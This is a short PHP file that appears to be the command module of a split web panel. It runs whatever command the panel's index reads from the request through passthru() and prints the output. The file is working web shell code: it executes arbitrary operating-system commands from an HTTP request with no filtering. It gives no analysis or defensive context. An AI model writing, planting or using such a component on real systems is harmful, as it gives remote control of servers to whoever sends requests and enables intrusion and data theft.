<?php
// Command module of a panel split over files: the panel's index reads the request into $cmd and
// includes this file, which holds no request input of its own.
if (!defined('PANEL')) {
    die();
}
echo '<pre>';
passthru($cmd . ' 2>&1');
echo '</pre>';
